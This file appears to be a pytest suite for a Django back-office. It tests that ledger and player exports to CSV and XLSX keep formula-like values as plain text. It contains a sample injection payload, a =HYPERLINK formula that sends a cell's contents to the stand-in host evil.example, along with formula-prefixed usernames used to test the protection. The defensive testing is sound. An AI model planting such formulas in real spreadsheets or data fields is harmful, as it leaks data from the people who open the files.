"""Back-office exports never write a live formula (issue 25): a ledger memo ``=HYPERLINK(...)``
or a username starting ``+``, ``-``, ``@``, ``=`` stays text in the CSV and in the XLSX."""

from __future__ import annotations

import csv

import pytest
from openpyxl import load_workbook

from apps.backoffice.exports import exports_dir
from apps.backoffice.services import export_request
from apps.common.spreadsheet import csv_safe
from apps.wallet.services import wallet_adjust

from ..conftest import make_user

pytestmark = pytest.mark.django_db

MEMO = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
USERNAMES = ["+39123", "-2+3", "@SUM(A1)", "=1+1"]


@pytest.fixture(autouse=True)
def export_folder(settings, tmp_path):
    settings.EXPORTS_DIR = tmp_path / "exports"


def _ledger_export(finance, fmt: str):
    player = make_user(nickname="Memo_1")
    wallet_adjust(actor=finance, player=player, currency="credits", amount=5, reason=MEMO)
    export = export_request(actor=finance, kind="ledger", fmt=fmt, params={"player": player.pk})
    return exports_dir() / export.file_name


def test_ledger_csv_memo_is_text(finance):
    with _ledger_export(finance, "csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    memos = [row[11] for row in rows[1:]]
    assert "'" + MEMO in memos and MEMO not in memos
    assert all(not m.startswith(("=", "+", "-", "@")) for m in memos)
    amounts = [row[7] for row in rows[1:]]
    assert all(a.lstrip("-").isdigit() for a in amounts)  # numbers are left as numbers


def test_ledger_xlsx_memo_is_a_string_cell_not_a_formula(finance):
    sheet = load_workbook(_ledger_export(finance, "xlsx")).active
    memo_cells = [row[11] for row in sheet.iter_rows(min_row=2)]
    hostile = [c for c in memo_cells if c.value == MEMO]
    assert hostile and all(c.data_type == "s" for c in hostile)  # the text as written, a string
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_players_export_usernames_are_text(finance, fmt):
    for name in USERNAMES:
        make_user(name)
    export = export_request(actor=finance, kind="players", fmt=fmt, params={})
    path = exports_dir() / export.file_name
    if fmt == "csv":
        with path.open(newline="", encoding="utf-8") as handle:
            names = {row[1] for row in list(csv.reader(handle))[1:]}
        assert {"'" + n for n in USERNAMES} <= names and not names & set(USERNAMES)
    else:
        cells = [row[1] for row in load_workbook(path).active.iter_rows(min_row=2)]
        assert {c.value for c in cells} >= set(USERNAMES)
        assert all(c.data_type == "s" for c in cells)


def test_csv_safe_leaves_numbers_and_plain_text():
    assert csv_safe(-5) == -5 and csv_safe("Mario") == "Mario" and csv_safe("") == ""
    assert csv_safe("\t=1") == "'\t=1" and csv_safe("@x") == "'@x"
